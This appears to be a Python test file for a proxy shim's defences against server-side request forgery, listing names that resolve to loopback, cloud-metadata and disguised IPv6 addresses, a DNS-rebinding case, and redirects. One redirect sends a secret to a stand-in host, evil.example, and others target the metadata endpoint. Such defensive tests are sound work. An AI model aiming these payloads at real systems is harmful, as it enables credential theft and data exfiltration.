"""Item 6, and what of item 7 upstreams do: names that lead where no upstream is, and redirects."""

from integration.bypass.case import Case, request
from integration.bypass.policy import SECRET

__all__ = ["CASES"]

REFUSED = ("502 address_refused",)


def named(upstream: str, *answers: str, row: str = "6") -> Case:
    """Returns a request for an upstream whose name has these addresses; nothing is connected to."""
    name = f"{upstream}: {', '.join(answers)}"
    return Case(
        row, name, request(f"/{upstream}/x"), REFUSED, ("/x",), resolves={f"{upstream}.example": [list(answers)]}
    )


def redirect(name: str, status: str, location: bytes, **expected: tuple[bytes, ...]) -> Case:
    """Returns a request that the upstream answers with a redirect: the agent gets it, and the shim follows none."""
    reply = b"HTTP/1.1 %b\r\nLocation: %b\r\nContent-Length: 0\r\n\r\n" % (status.encode(), location)
    return Case("6", name, request("/b/x"), (status[:3],), ("/x",), reply=reply, never=(b"169.254",), **expected)


METADATA = b"http://169.254.169.254/latest/meta-data/"

CASES = [
    named("loopback", "127.0.0.1"),
    named("link-local", "169.254.1.1"),
    named("metadata", "169.254.169.254"),
    named("metadata6", "fd00:ec2::254"),
    named("mapped", "::ffff:127.0.0.1"),
    named("nat64", "64:ff9b::7f00:1"),
    named("sixtofour", "2002:7f00:1::1"),
    named("translated", "::ffff:0:7f00:1"),
    named("unspecified", "0.0.0.0"),
    named("mixed", "8.8.8.8", "127.0.0.1"),
    named("rebound", "10.0.0.1", row="7"),
    Case(
        "7",
        "a name that changes between the check and the connection",
        request("/flipping/x"),
        ("200",),
        ("/x",),
        resolves={"flipping.example": [["127.0.0.1"], ["169.254.169.254"]]},
        arrived=(b"\r\nhost: flipping.example:",),
    ),
    Case("6", "the shim itself", request("/self/b/x"), ("502 loop_detected",), ("/b/x",)),
    Case("6", "a denied path of the shim itself", request("/self/b/admin/x"), ("502 loop_detected",), ("/b/admin/x",)),
    redirect("a redirect to metadata", "302 Found", METADATA, shown=(METADATA,)),
    redirect("a redirect that keeps the method", "307 Temporary Redirect", METADATA, shown=(METADATA,)),
    redirect("a redirect to a denied path", "301 Moved Permanently", b"/admin/x", shown=(b"location: /admin/x\r\n",)),
    redirect("a redirect that carries the secret", "302 Found", b"http://evil.example/?k=" + SECRET),
]
